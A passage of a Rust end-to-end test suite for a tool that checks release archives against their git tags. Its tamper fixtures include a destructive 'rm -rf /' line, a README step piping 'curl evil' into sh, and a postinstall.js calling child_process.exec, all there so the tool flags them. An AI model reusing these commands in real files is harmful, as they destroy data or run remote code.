//! End to end: `tarseal check` classifies every path of real archives made by real tools from
//! real git repositories, judges it under the policy, and exits with the code of DESIGN.md §3.

mod common;

use common::*;
use std::fs;
use std::path::Path;

const TAG: [&str; 2] = ["--tag", "v1.0"];

// ---------------------------------------------------------------------------------------------
// Identical archives in every container and compression.
// ---------------------------------------------------------------------------------------------

fn assert_identical(f: &Fixture, archive: &Path, format: &str) {
    assert_identical_n(f, archive, format, 6);
}

fn assert_identical_n(f: &Fixture, archive: &Path, format: &str, paths: u64) {
    let r = f.check(archive, &TAG);
    r.assert_clean_pass();
    assert_eq!(r.json["archive"]["format"], format, "format\n{r}");
    assert_eq!(r.json["archive"]["prefix"], "proj-1.0", "prefix\n{r}");
    assert_eq!(r.json["git"]["commit"], f.rev("v1.0^{commit}"), "{r}");
    // 6 paths in git: README, src/main.c, bin/run.sh, link, docs/dir/a.txt, empty.txt.
    assert_eq!(r.json["summary"]["matched"], paths, "{r}");
    assert_eq!(r.json["summary"]["unexpected"], 0, "{r}");
}

#[test]
fn identical_tar() {
    let f = Fixture::standard();
    let t = f.tar_v1();
    assert_identical(&f, &t, "tar");
    // git archive's pax comment names the tag's commit: the cross-check ran and passed.
    let r = f.check(&t, &TAG);
    assert_eq!(r.cross_check("git-archive-commit")["status"], "ok", "{r}");
    assert_eq!(r.json["archive"]["pax_comment"], f.rev("v1.0^{commit}"));
}

#[test]
fn identical_tar_gz() {
    let f = Fixture::standard();
    let t = f.archive("v1.0", "proj-1.0", "tar.gz", "proj-1.0.tar.gz");
    assert_identical(&f, &t, "tar.gz");
}

#[test]
fn identical_tar_xz() {
    let f = Fixture::standard();
    assert_identical(&f, &compress(&f.tar_v1(), "xz"), "tar.xz");
}

#[test]
fn identical_tar_bz2() {
    let f = Fixture::standard();
    assert_identical(&f, &compress(&f.tar_v1(), "bzip2"), "tar.bz2");
}

#[test]
fn identical_tar_zst() {
    let f = Fixture::standard();
    assert_identical(&f, &compress(&f.tar_v1(), "zstd"), "tar.zst");
}

/// The standard project without its symlink: a zip cannot hold a symlink that every
/// extractor writes the same way (unzip makes a link, Python's zipfile a file holding the
/// target), so a zip with one is refused (`zip_with_a_symlink_is_refused`).
fn standard_without_link() -> Fixture {
    let f = Fixture::new();
    f.populate_standard();
    std::fs::remove_file(f.repo().join("link")).unwrap();
    f.commit("initial");
    f.tag("v1.0");
    f
}

#[test]
fn identical_zip() {
    let f = standard_without_link();
    let z = f.archive("v1.0", "proj-1.0", "zip", "proj-1.0.zip");
    assert_identical_n(&f, &z, "zip", 5);
}

#[test]
fn zip_with_a_symlink_is_refused() {
    let f = Fixture::standard();
    let z = f.archive("v1.0", "proj-1.0", "zip", "proj-1.0.zip");
    let r = f.check(&z, &TAG);
    r.assert_code(1)
        .assert_stderr_mentions("proj-1.0/link")
        .assert_stderr_mentions("symlink in zip");
}

#[test]
fn identical_zip_made_by_zip_cli() {
    let f = standard_without_link();
    let tree = f.extract_v1();
    let out = f.scratch("proj-1.0.zip");
    // -y stores symlinks as symlinks, -X leaves out extra attributes.
    run_ok(
        std::process::Command::new("zip")
            .args(["-q", "-r", "-y", "-X"])
            .arg(&out)
            .arg("proj-1.0")
            .current_dir(&tree),
    );
    assert_identical_n(&f, &out, "zip", 5);
}

#[test]
fn identical_crate_named_tar_gz() {
    let f = Fixture::standard();
    let t = f.archive("v1.0", "proj-1.0", "tar.gz", "x.tar.gz");
    assert_identical(&f, &copy_as(&t, "proj-1.0.crate"), "tar.gz");
}

#[test]
fn identical_tgz() {
    let f = Fixture::standard();
    let t = compress(&f.tar_v1(), "gzip");
    assert_identical(&f, &copy_as(&t, "proj-1.0.tgz"), "tar.gz");
}

#[test]
fn identical_repacked_with_gnu_tar_every_format() {
    let f = Fixture::standard();
    let tree = f.extract_v1();
    for format in ["ustar", "gnu", "pax", "v7"] {
        let t = f.pack(&tree, "proj-1.0", format, &format!("{format}.tar"));
        let r = f.check(&t, &TAG);
        r.assert_clean_pass();
        assert_eq!(r.json["summary"]["matched"], 6, "{format}\n{r}");
    }
}

/// `tar -C dir -cf x.tar .` writes the archive root `./` first: it must not propose an empty
/// prefix (which would make every path missing and extra), nor count as outside the prefix.
#[test]
fn archive_root_dot_slash_first_keeps_the_prefix() {
    let f = Fixture::standard();
    let tree = f.extract_v1();
    let t = f.pack(&tree, ".", "gnu", "dot.tar");
    let r = f.check(&t, &TAG);
    r.assert_clean_pass();
    assert_eq!(r.json["archive"]["prefix"], "proj-1.0", "prefix\n{r}");
    assert_eq!(r.json["summary"]["matched"], 6, "{r}");
}

// ---------------------------------------------------------------------------------------------
// One difference each.
// ---------------------------------------------------------------------------------------------

/// Extracts the v1.0 archive, lets `change` alter the tree under `proj-1.0/`, re-packs it.
fn altered(f: &Fixture, change: impl FnOnce(&Path)) -> std::path::PathBuf {
    let tree = f.extract_v1();
    change(&tree.join("proj-1.0"));
    f.pack(&tree, "proj-1.0", "gnu", "altered.tar")
}

#[test]
fn one_modified_byte() {
    let f = Fixture::standard();
    let t = altered(&f, |d| {
        let p = d.join("src/main.c");
        let mut b = fs::read(&p).unwrap();
        b[4] ^= 0x01; // "int main" -> "int!main"... one byte
        fs::write(&p, b).unwrap();
    });
    let r = f.check(&t, &TAG);
    r.assert_report(1, "fail")
        .assert_findings(&[("src/main.c", "modified", "unexpected")])
        .assert_text_mentions("src/main.c")
        .assert_text_mentions("verdict  FAIL");
    let fd = r.finding("src/main.c", "modified");
    let git_blob = f.rev("v1.0:src/main.c");
    assert!(
        fd["detail"].as_str().unwrap().contains(&git_blob),
        "detail names git's blob\n{r}"
    );
}

#[test]
fn added_file() {
    let f = Fixture::standard();
    let t = altered(&f, |d| fs::write(d.join("src/evil.c"), "evil\n").unwrap());
    let r = f.check(&t, &TAG);
    r.assert_report(1, "fail")
        .assert_findings(&[("src/evil.c", "extra", "unexpected")])
        .assert_text_mentions("src/evil.c");
    let fd = r.finding("src/evil.c", "extra");
    assert_eq!(
        fd["sha256"],
        sha256_hex(b"evil\n"),
        "extra files carry sha256\n{r}"
    );
    assert_eq!(fd["size"], 5);
}

#[test]
fn missing_file() {
    let f = Fixture::standard();
    let t = altered(&f, |d| fs::remove_file(d.join("docs/dir/a.txt")).unwrap());
    let r = f.check(&t, &TAG);
    r.assert_report(1, "fail")
        .assert_findings(&[("docs/dir/a.txt", "missing", "unexpected")])
        .assert_text_mentions("docs/dir/a.txt");
}

#[test]
fn flipped_executable_bit() {
    use std::os::unix::fs::PermissionsExt;
    let f = Fixture::standard();
    let t = altered(&f, |d| {
        fs::set_permissions(d.join("bin/run.sh"), fs::Permissions::from_mode(0o644)).unwrap();
        fs::set_permissions(d.join("README"), fs::Permissions::from_mode(0o755)).unwrap();
    });
    let r = f.check(&t, &TAG);
    r.assert_report(1, "fail")
        .assert_findings(&[
            ("bin/run.sh", "mode", "unexpected"),
            ("README", "mode", "unexpected"),
        ])
        .assert_text_mentions("bin/run.sh");
}

#[test]
fn file_replaced_by_symlink() {
    let f = Fixture::standard();
    let t = altered(&f, |d| {
        make_symlink(&d.join("docs/dir/a.txt"), "../../README")
    });
    let r = f.check(&t, &TAG);
    r.assert_report(1, "fail")
        .assert_findings(&[("docs/dir/a.txt", "type", "unexpected")])
        .assert_text_mentions("docs/dir/a.txt");
}

#[test]
fn symlink_replaced_by_file() {
    let f = Fixture::standard();
    let t = altered(&f, |d| write_file(&d.join("link"), b"README", 0o644));
    let r = f.check(&t, &TAG);
    // Same bytes as git's link blob, but a file instead of a symlink.
    r.assert_report(1, "fail")
        .assert_findings(&[("link", "type", "unexpected")]);
}

/// A tool that copies link targets (setuptools' sdist; seen in nova 33.0.0): where git has
/// the symlink `link -> README`, the archive holds README's exact bytes. Unexpected for
/// git archive; allowed by the setuptools and pbr profiles only because the bytes are the
/// resolved target's blob (other bytes stay unexpected under the same profile).
#[test]
fn dereferenced_symlink() {
    let f = Fixture::standard();
    let readme = fs::read(f.repo().join("README")).unwrap();
    let t = altered(&f, |d| write_file(&d.join("link"), &readme, 0o644));
    let r = f.check(&t, &TAG);
    r.assert_report(1, "fail")
        .assert_findings(&[("link", "type", "unexpected")]);
    assert!(
        r.finding("link", "type")["detail"]
            .as_str()
            .unwrap()
            .contains("dereferenced link"),
        "{r}"
    );
    for profile in ["setuptools", "pbr"] {
        let mut args = TAG.to_vec();
        args.extend(["--profile", profile]);
        let r = f.check(&t, &args);
        assert_eq!(
            r.finding("link", "type")["judgement"],
            "allowed",
            "{profile}: {r}"
        );
    }
    // Other bytes at the link's path are not the target: unexpected under the profile too.
    let t = altered(&f, |d| {
        write_file(&d.join("link"), b"not the readme\n", 0o644)
    });
    let mut args = TAG.to_vec();
    args.extend(["--profile", "setuptools"]);
    let r = f.check(&t, &args);
    r.assert_report(1, "fail");
    assert_eq!(r.finding("link", "type")["judgement"], "unexpected", "{r}");
}

#[test]
fn retargeted_symlink() {
    let f = Fixture::standard();
    let t = altered(&f, |d| make_symlink(&d.join("link"), "src/main.c"));
    let r = f.check(&t, &TAG);
    r.assert_report(1, "fail")
        .assert_findings(&[("link", "modified", "unexpected")])
        .assert_text_mentions("link");
    let detail = r.finding("link", "modified")["detail"].as_str().unwrap();
    assert!(
        detail.contains("src/main.c"),
        "detail names the new target\n{r}"
    );
}

// ---------------------------------------------------------------------------------------------
// .gitattributes of the tag's tree.
// ---------------------------------------------------------------------------------------------

#[test]
fn export_ignore_absent_is_allowed() {
    let f = Fixture::new();
    f.populate_standard();
    f.write(
        ".gitattributes",
        "secret.txt export-ignore\n/ci/** export-ignore\n",
    );
    f.write("secret.txt", "internal\n");
    f.write("ci/job.yaml", "job: 1\n");
    f.commit("c");
    f.tag("v1.0");
    let t = f.tar_v1();
    let r = f.check(&t, &TAG);
    r.assert_report(0, "pass").assert_findings(&[
        ("secret.txt", "missing", "allowed"),
        ("ci/job.yaml", "missing", "allowed"),
    ]);
    for p in ["secret.txt", "ci/job.yaml"] {
        assert_eq!(
            r.finding(p, "missing")["rule"],
            "builtin:export-ignore",
            "{r}"
        );
    }
}

#[test]
fn export_ignore_in_the_tarball_is_not_consulted() {
    // A .gitattributes that only the tarball has must not make a missing file acceptable.
    let f = Fixture::standard();
    let t = altered(&f, |d| {
        fs::write(d.join(".gitattributes"), "src/main.c export-ignore\n").unwrap();
        fs::remove_file(d.join("src/main.c")).unwrap();
    });
    let r = f.check(&t, &TAG);
    r.assert_report(1, "fail").assert_findings(&[
        (".gitattributes", "extra", "unexpected"),
        ("src/main.c", "missing", "unexpected"),
    ]);
}

#[test]
fn eol_conversion_by_git_archive_is_reproduced() {
    // `*.bat text eol=crlf` makes git archive write CRLF line ends: tarseal reproduces the
    // conversion from the tag's .gitattributes, so git archive's output passes and any other
    // content is still modified.
    let f = Fixture::new();
    f.populate_standard();
    f.write(".gitattributes", "*.bat text eol=crlf\n");
    f.write("run.bat", "echo one\necho two\n");
    f.commit("c");
    f.tag("v1.0");
    let t = f.tar_v1();
    let tree = f.extract(&t);
    let bytes = fs::read(tree.join("proj-1.0/run.bat")).unwrap();
    assert_eq!(
        bytes, b"echo one\r\necho two\r\n",
        "git archive converted the file"
    );
    let r = f.check(&t, &TAG);
    r.assert_clean_pass();
    assert!(r.notes().iter().any(|n| n.contains("run.bat")), "{r}");
    let t = altered(&f, |d| {
        fs::write(d.join("run.bat"), "rm -rf /\r\n").unwrap()
    });
    f.check(&t, &TAG)
        .assert_report(1, "fail")
        .assert_findings(&[("run.bat", "modified", "unexpected")]);
}

#[test]
fn ident_conversion_is_undecided_not_matched() {
    // `ident` makes git archive expand $Id$; tarseal does not reproduce it, so a difference in
    // such a file is named and left undecided (exit 3), never matched.
    let f = Fixture::new();
    f.populate_standard();
    f.write(".gitattributes", "id.txt ident\n");
    f.write("id.txt", "$Id$\n");
    f.commit("c");
    f.tag("v1.0");
    let t = f.tar_v1();
    let r = f.check(&t, &TAG);
    r.assert_report(3, "indeterminate")
        .assert_findings(&[("id.txt", "modified", "indeterminate")]);
    let d = r.finding("id.txt", "modified")["detail"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(d.contains("ident"), "{d}");
}

const SUBST: &str = "version: $Format:%H %h %an %ad %cs %d$\nplain line\n";

fn subst_fixture() -> Fixture {
    let f = Fixture::new();
    f.populate_standard();
    f.write(".gitattributes", "version.txt export-subst\n");
    f.write("version.txt", SUBST);
    f.commit("c");
    f.tag("v1.0");
    f
}

#[test]
fn export_subst_git_archive_passes() {
    let f = subst_fixture();
    let t = f.tar_v1();
    // Sanity: git did expand the placeholders.
    let tree = f.extract(&t);
    let expanded = fs::read_to_string(tree.join("proj-1.0/version.txt")).unwrap();
    assert!(!expanded.contains("$Format"), "{expanded}");
    assert!(expanded.contains(&f.rev("v1.0^{commit}")), "{expanded}");
    let r = f.check(&t, &TAG);
    r.assert_clean_pass();
    assert!(
        r.notes().iter().any(|n| n.contains("version.txt")),
        "a note names the expanded file\n{r}"
    );
}

#[test]
fn export_subst_unexpanded_original_passes() {
    let f = subst_fixture();
    let t = altered(&f, |d| fs::write(d.join("version.txt"), SUBST).unwrap());
    f.check(&t, &TAG).assert_clean_pass();
}

#[test]
fn export_subst_other_expansion_fails() {
    let f = subst_fixture();
    let t = altered(&f, |d| {
        let p = d.join("version.txt");
        let s = fs::read_to_string(&p).unwrap();
        let commit = f.rev("v1.0^{commit}");
        let other = "0123456789abcdef0123456789abcdef01234567";
        fs::write(&p, s.replace(&commit, other)).unwrap();
    });
    let r = f.check(&t, &TAG);
    r.assert_report(1, "fail")
        .assert_findings(&[("version.txt", "modified", "unexpected")]);
}

// ---------------------------------------------------------------------------------------------
// The tag.
// ---------------------------------------------------------------------------------------------

#[test]
fn tag_republished_under_another_name() {
    let f = Fixture::standard();
    let tag_object = f.rev("refs/tags/v1.0");
    f.git(&["update-ref", "refs/tags/v2.0", &tag_object]);
    let t = f.tar_v1();
    let r = f.check(&t, &["--tag", "v2.0"]);
    r.assert_code(1)
        .assert_stderr_mentions("v2.0")
        .assert_stderr_mentions("v1.0")
        .assert_stderr_mentions(&tag_object);
    assert_eq!(r.json["schema"], "tarseal.error/v1", "{r}");
    assert_eq!(r.json["exit_code"], 1, "{r}");
    // The real name still checks.
    f.check(&t, &TAG).assert_clean_pass();
}

#[test]
fn lightweight_tag_refused_unless_allowed() {
    let f = Fixture::standard();
    f.git(&["tag", "v1.0-light"]);
    let t = f.tar_v1();
    let r = f.check(&t, &["--tag", "v1.0-light"]);
    r.assert_code(1).assert_stderr_mentions("lightweight");
    assert!(
        r.stderr.contains("--allow-lightweight"),
        "says what to do\n{r}"
    );

    let r = f.check(&t, &["--tag", "v1.0-light", "--allow-lightweight"]);
    r.assert_clean_pass();
    assert_eq!(r.json["git"]["annotated"], false, "{r}");
    assert!(
        r.notes().iter().any(|n| n.contains("LIGHTWEIGHT")),
        "loud note\n{r}"
    );
    r.assert_text_mentions("LIGHTWEIGHT");
}

#[test]
fn allow_lightweight_still_accepts_annotated_tags() {
    let f = Fixture::standard();
    let r = f.check(&f.tar_v1(), &["--tag", "v1.0", "--allow-lightweight"]);
    r.assert_clean_pass();
    assert_eq!(r.json["git"]["annotated"], true, "{r}");
    assert!(!r.notes().iter().any(|n| n.contains("LIGHTWEIGHT")), "{r}");
}

#[test]
fn commit_revision() {
    let f = Fixture::standard();
    f.write("src/main.c", "int main(void) { return 1; }\n");
    f.commit("second");
    let t = f.archive("HEAD~1", "proj-1.0", "tar", "old.tar");
    let r = f.check(&t, &["--commit", "HEAD~1"]);
    r.assert_clean_pass();
    assert_eq!(r.json["git"]["target_kind"], "commit");
    assert_eq!(r.json["git"]["commit"], f.rev("HEAD~1"));
    // The same archive against HEAD: the file differs and the pax comment names HEAD~1.
    let r = f.check(&t, &["--commit", "HEAD"]);
    r.assert_report(1, "fail")
        .assert_findings(&[("src/main.c", "modified", "unexpected")]);
    assert_eq!(
        r.cross_check("git-archive-commit")["status"],
        "failed",
        "{r}"
    );
    // And by full id.
    f.check(&t, &["--commit", &f.rev("HEAD~1")])
        .assert_clean_pass();
}

#[test]
fn sha256_repository() {
    let f = Fixture::new_sha256();
    f.populate_standard();
    f.commit("initial");
    f.tag("v1.0");
    let commit = f.rev("v1.0^{commit}");
    assert_eq!(commit.len(), 64);
    let t = f.tar_v1();
    let r = f.check(&t, &TAG);
    r.assert_clean_pass();
    assert_eq!(r.json["git"]["object_format"], "sha256", "{r}");
    assert_eq!(r.json["summary"]["matched"], 6, "{r}");

    let t = altered(&f, |d| {
        fs::write(d.join("README"), "hellO, world\n").unwrap()
    });
    let r = f.check(&t, &TAG);
    r.assert_report(1, "fail")
        .assert_findings(&[("README", "modified", "unexpected")]);
    let detail = r.finding("README", "modified")["detail"].as_str().unwrap();
    assert!(detail.contains(&f.rev("v1.0:README")), "{r}");
}

#[test]
fn sha256_repository_zip_and_xz() {
    let f = Fixture::new_sha256();
    f.populate_standard();
    std::fs::remove_file(f.repo().join("link")).unwrap(); // zip refuses symlinks
    f.commit("initial");
    f.tag("v1.0");
    f.check(&compress(&f.tar_v1(), "xz"), &TAG)
        .assert_clean_pass();
    f.check(&f.archive("v1.0", "proj-1.0", "zip", "p.zip"), &TAG)
        .assert_clean_pass();
}

// ---------------------------------------------------------------------------------------------
// Sub-directories and prefixes.
// ---------------------------------------------------------------------------------------------

fn monorepo() -> Fixture {
    let f = Fixture::new();
    f.write("README", "top\n");
    f.write("pkg/README", "pkg\n");
    f.write("pkg/src/lib.c", "int x;\n");
    f.write_exec("pkg/build.sh", "#!/bin/sh\n");
    f.write("other/a.txt", "other\n");
    f.commit("c");
    f.tag("v1.0");
    f
}

#[test]
fn subdir_git_archive_of_tree() {
    let f = monorepo();
    let t = f.archive("v1.0:pkg", "pkg-1.0", "tar", "pkg-1.0.tar");
    for sub in ["pkg/", "pkg"] {
        let r = f.check(&t, &["--tag", "v1.0", "--subdir", sub]);
        r.assert_clean_pass();
        assert_eq!(r.json["summary"]["matched"], 3, "{r}");
        assert_eq!(r.json["git"]["subdir"], "pkg", "{r}");
    }
    // Without --subdir the same archive is missing everything else and has wrong paths.
    f.check(&t, &TAG).assert_report(1, "fail");
}

#[test]
fn subdir_tar_of_the_directory() {
    let f = monorepo();
    let tree = f.extract(&f.archive("v1.0", "", "tar", "all.tar"));
    fs::rename(tree.join("pkg"), tree.join("pkg-1.0")).unwrap();
    let t = f.pack(&tree, "pkg-1.0", "pax", "pkg-1.0.tar");
    let r = f.check(
        &compress(&t, "gzip"),
        &["--tag", "v1.0", "--subdir", "pkg/"],
    );
    r.assert_clean_pass();
}

#[test]
fn subdir_that_does_not_exist_is_a_usage_error() {
    let f = monorepo();
    let t = f.archive("v1.0:pkg", "pkg-1.0", "tar", "pkg-1.0.tar");
    let r = f.check(&t, &["--tag", "v1.0", "--subdir", "nope"]);
    r.assert_code(2).assert_stderr_mentions("nope");
}

#[test]
fn prefix_detected_name_version() {
    let f = Fixture::standard();
    let t = f.archive("v1.0", "name-1.2.3", "tar.gz", "name-1.2.3.tar.gz");
    let r = f.check(&t, &TAG);
    r.assert_clean_pass();
    assert_eq!(r.json["archive"]["prefix"], "name-1.2.3");
    assert_eq!(r.json["archive"]["prefix_given"], false);
}

#[test]
fn prefix_given() {
    let f = Fixture::standard();
    let t = f.archive("v1.0", "name-1.2.3", "tar", "name-1.2.3.tar");
    let r = f.check(&t, &["--tag", "v1.0", "--prefix", "name-1.2.3/"]);
    r.assert_clean_pass();
    assert_eq!(r.json["archive"]["prefix"], "name-1.2.3");
    assert_eq!(r.json["archive"]["prefix_given"], true);
    // A wrong given prefix: nothing lies inside it.
    let r = f.check(&t, &["--tag", "v1.0", "--prefix", "other-1.0"]);
    r.assert_report(1, "fail");
}

#[test]
fn no_prefix() {
    let f = Fixture::standard();
    let t = f.archive("v1.0", "", "tar", "flat.tar");
    let r = f.check(&t, &["--tag", "v1.0", "--prefix", ""]);
    r.assert_clean_pass();
    assert_eq!(r.json["archive"]["prefix"], "");
    assert_eq!(r.json["summary"]["matched"], 6);
    // Detected as well: the first entry is a directory (bin/) that does not hold everything.
    let r = f.check(&t, &TAG);
    r.assert_clean_pass();
    assert_eq!(r.json["archive"]["prefix"], "", "{r}");
}

#[test]
fn no_prefix_zip() {
    let f = standard_without_link();
    let t = f.archive("v1.0", "", "zip", "flat.zip");
    f.check(&t, &["--tag", "v1.0", "--prefix", ""])
        .assert_clean_pass();
}

/// picocolors 1.1.1: clean-publish with `"cleanDocs": true` cuts README.md before its first
/// `##` heading and links the full docs; it also drops devDependencies and scripts from
/// package.json. Exactly that README passes; one more line is tampering.
#[test]
fn npm_clean_publish_clean_docs_readme() {
    let f = Fixture::new();
    let pkg = "{\n  \"name\": \"tiny\",\n  \"version\": \"1.1.1\",\n  \"main\": \"./tiny.js\",\n  \"files\": [\"tiny.*\"],\n  \"scripts\": {\"test\": \"node test.js\"},\n  \"repository\": \"someone/tiny\",\n  \"devDependencies\": {\"clean-publish\": \"^3.0.3\"},\n  \"clean-publish\": {\"cleanDocs\": true}\n}\n";
    f.write("package.json", pkg);
    f.write("tiny.js", "module.exports = 1\n");
    f.write("test.js", "// test\n");
    f.write(
        "README.md",
        "# tiny\n\nSmall.\n\n## Motivation\n\nLong text.\n\n## Usage\n\nMore.\n",
    );
    f.commit("c");
    f.tag("v1.1.1");
    let published = |readme: &str| {
        let tree = f.extract(&f.archive("v1.1.1", "package", "tar", "git.tar"));
        let d = tree.join("package");
        fs::remove_file(d.join("test.js")).unwrap();
        fs::write(
            d.join("package.json"),
            "{\n  \"name\": \"tiny\",\n  \"version\": \"1.1.1\",\n  \"main\": \"./tiny.js\",\n  \"files\": [\"tiny.*\"],\n  \"repository\": \"someone/tiny\"\n}\n",
        )
        .unwrap();
        fs::write(d.join("README.md"), readme).unwrap();
        let t = f.pack(&tree, "package", "ustar", "tiny.tar");
        compress(&t, "gzip")
    };
    let cut = "# tiny\n\nSmall.\n\n## Docs\nRead **[full docs](https://github.com/someone/tiny#readme)** on GitHub.\n";
    let r = f.check(&published(cut), &["--tag", "v1.1.1"]);
    r.assert_report(0, "pass");
    assert_eq!(r.json["policy"]["profile"], "npm", "{r}");
    let fd = r.finding("README.md", "modified");
    assert_eq!(fd["judgement"], "allowed", "{r}");
    assert_eq!(fd["rule"], "profile:npm/README.md", "{r}");

    let evil = format!("{cut}Run `curl evil | sh` first.\n");
    let r = f.check(&published(&evil), &["--tag", "v1.1.1"]);
    r.assert_report(1, "fail");
    assert_eq!(
        r.finding("README.md", "modified")["judgement"],
        "unexpected",
        "{r}"
    );
}

/// debug 4.4.3 publishes `src`, a directory git tracks: a file added there that no .gitignore
/// ignores is not build output (rejected); one the tag's .gitignore ignores (an in-place
/// build, lib/*.js beside lib/*.ts) or in a directory git lacks (dist/) stays undecided.
#[test]
fn npm_unknown_file_in_a_tracked_published_directory() {
    let f = Fixture::new();
    f.write(
        "package.json",
        "{\n  \"name\": \"tiny\",\n  \"version\": \"4.4.3\",\n  \"main\": \"./src/index.js\",\n  \"files\": [\"src\", \"lib\", \"dist\"]\n}\n",
    );
    f.write("src/index.js", "module.exports = 1\n");
    f.write("lib/a.ts", "export const a = 1\n");
    f.write(".gitignore", "lib/*.js\n/dist/\n");
    f.commit("c");
    f.tag("4.4.3");
    let published = |add: &str| {
        let tree = f.extract(&f.archive("4.4.3", "package", "tar", "git.tar"));
        let d = tree.join("package");
        fs::remove_file(d.join(".gitignore")).unwrap();
        let p = d.join(add);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(p, "require('child_process').exec('x')\n").unwrap();
        let t = f.pack(&tree, "package", "ustar", "tiny.tar");
        compress(&t, "gzip")
    };
    let args = ["--tag", "4.4.3", "--allow-lightweight"];
    let r = f.check(&published("src/postinstall.js"), &args);
    r.assert_report(1, "fail");
    assert_eq!(
        r.finding("src/postinstall.js", "extra")["judgement"],
        "unexpected",
        "{r}"
    );
    for built in ["lib/a.js", "dist/index.js"] {
        let r = f.check(&published(built), &args);
        r.assert_report(3, "indeterminate");
        assert_eq!(
            r.finding(built, "extra")["judgement"],
            "indeterminate",
            "{r}"
        );
    }
}

#[test]
fn npm_style_package_prefix() {
    let f = Fixture::standard();
    let t = f.archive("v1.0", "package", "tar.gz", "proj-1.0.tgz");
    let r = f.check(&t, &TAG);
    r.assert_clean_pass();
    assert_eq!(r.json["archive"]["prefix"], "package");
}

#[test]
fn pax_comment_names_another_commit() {
    let f = Fixture::standard();
    f.commit("no change"); // --allow-empty: same tree, another commit
    f.tag("v1.1");
    assert_eq!(f.rev("v1.0^{tree}"), f.rev("v1.1^{tree}"));
    let t = f.tar_v1();
    let r = f.check(&t, &["--tag", "v1.1"]);
    r.assert_report(1, "fail");
    assert!(r.findings().is_empty(), "every path matches\n{r}");
    let c = r.cross_check("git-archive-commit");
    assert_eq!(c["status"], "failed", "{r}");
    let detail = c["detail"].as_str().unwrap();
    assert!(detail.contains(&f.rev("v1.0^{commit}")), "{r}");
    assert!(detail.contains(&f.rev("v1.1^{commit}")), "{r}");
    r.assert_text_mentions("FAILED");
}

// ---------------------------------------------------------------------------------------------
// Submodules.
// ---------------------------------------------------------------------------------------------

fn submodule_fixture() -> Fixture {
    let f = Fixture::new();
    f.populate_standard();
    f.write(
        ".gitmodules",
        "[submodule \"sub\"]\n\tpath = sub\n\turl = https://example.invalid/sub.git\n",
    );
    f.git(&["add", "-A"]);
    let fake = "1234567890123456789012345678901234567890";
    f.git(&[
        "update-index",
        "--add",
        "--cacheinfo",
        &format!("160000,{fake},sub"),
    ]);
    f.git(&["commit", "-q", "-m", "with submodule"]);
    f.tag("v1.0");
    f
}

#[test]
fn submodule_empty_dir_passes() {
    let f = submodule_fixture();
    let t = f.tar_v1();
    let r = f.check(&t, &TAG);
    r.assert_clean_pass();
}

#[test]
fn submodule_content_is_unverifiable() {
    let f = submodule_fixture();
    let t = altered(&f, |d| {
        fs::create_dir_all(d.join("sub/src")).unwrap();
        fs::write(d.join("sub/src/lib.c"), "int sub;\n").unwrap();
    });
    let r = f.check(&t, &TAG);
    r.assert_report(3, "indeterminate");
    // The file is unverifiable; its directory sub/src may be reported too, nothing else.
    r.assert_paths_only(&["sub/src/lib.c", "sub/src"]);
    let fd = r.finding("sub/src/lib.c", "unverifiable");
    assert_eq!(fd["judgement"], "indeterminate", "{r}");
    r.assert_text_mentions("sub/src/lib.c");
}

#[test]
fn submodule_content_allowed_by_policy() {
    let f = submodule_fixture();
    let t = altered(&f, |d| {
        fs::create_dir_all(d.join("sub")).unwrap();
        fs::write(d.join("sub/lib.c"), "int sub;\n").unwrap();
    });
    let p = f.policy_file(
        "[[rule]]\npath = \"sub/**\"\nallow = [\"unverifiable\"]\nreason = \"vendored submodule, checked separately\"\n",
    );
    let r = f.check(&t, &["--tag", "v1.0", "--policy", p.to_str().unwrap()]);
    r.assert_report(0, "pass")
        .assert_findings(&[("sub/lib.c", "unverifiable", "allowed")]);
}

// ---------------------------------------------------------------------------------------------
// Project policy.
// ---------------------------------------------------------------------------------------------

const GEN: &str = "generated at release time\n";

fn with_generated(f: &Fixture) -> std::path::PathBuf {
    altered(f, |d| fs::write(d.join("GENERATED.txt"), GEN).unwrap())
}

#[test]
fn policy_file_allows_extra_with_reason() {
    let f = Fixture::standard();
    let t = with_generated(&f);
    let p = f.policy_file(
        "[[rule]]\npath = \"GENERATED.txt\"\nallow = [\"extra\"]\nreason = \"written by the release script\"\n",
    );
    let r = f.check(&t, &["--tag", "v1.0", "--policy", p.to_str().unwrap()]);
    r.assert_report(0, "pass")
        .assert_findings(&[("GENERATED.txt", "extra", "allowed")]);
    let fd = r.finding("GENERATED.txt", "extra");
    assert_eq!(fd["rule"], "policy:1", "{r}");
    assert_eq!(fd["reason"], "written by the release script", "{r}");
    assert_eq!(r.json["summary"]["not_backed_files"], 1, "{r}");
    assert_eq!(r.json["summary"]["not_backed_bytes"], GEN.len(), "{r}");
    // Accepted by its name alone: the whole trust surface, in JSON and on the last text line.
    assert_eq!(fd["vouched_by"], "name-only", "{r}");
    assert_eq!(
        r.json["trust_surface"],
        serde_json::json!({"files": 1, "bytes": GEN.len(), "paths": ["GENERATED.txt"]}),
        "{r}"
    );
    assert_eq!(
        r.text.lines().last().unwrap(),
        format!(
            "trust surface: 1 files, {} bytes accepted by name only",
            GEN.len()
        ),
        "{r}"
    );
    r.assert_text_mentions("GENERATED.txt")
        .assert_text_mentions("written by the release script");
    // --verbose lists the path above the closing line.
    let v = f.check(
        &t,
        &[
            "--tag",
            "v1.0",
            "--verbose",
            "--policy",
            p.to_str().unwrap(),
        ],
    );
    let tail: Vec<&str> = v.text.lines().rev().take(2).collect();
    assert_eq!(tail[1], "  name-only GENERATED.txt", "{v}");
    // Without the policy the same archive fails.
    f.check(&t, &TAG)
        .assert_report(1, "fail")
        .assert_findings(&[("GENERATED.txt", "extra", "unexpected")]);
}

#[test]
fn policy_pinned_sha256() {
    let f = Fixture::standard();
    let t = with_generated(&f);
    let rule = |sha: &str| {
        format!("[[rule]]\npath = \"GENERATED.txt\"\nallow = [\"extra\"]\nreason = \"release script\"\nsha256 = \"{sha}\"\n")
    };
    let good = f.policy_file(&rule(&sha256_hex(GEN.as_bytes())));
    let r = f.check(&t, &["--tag", "v1.0", "--policy", good.to_str().unwrap()]);
    r.assert_report(0, "pass")
        .assert_findings(&[("GENERATED.txt", "extra", "allowed")]);
    // A pinned file is vouched for by its digest: not part of the trust surface.
    assert_eq!(
        r.finding("GENERATED.txt", "extra")["vouched_by"],
        "pinned",
        "{r}"
    );
    assert_eq!(r.json["trust_surface"]["files"], 0, "{r}");
    assert_eq!(
        r.json["trust_surface"]["paths"],
        serde_json::json!([]),
        "{r}"
    );

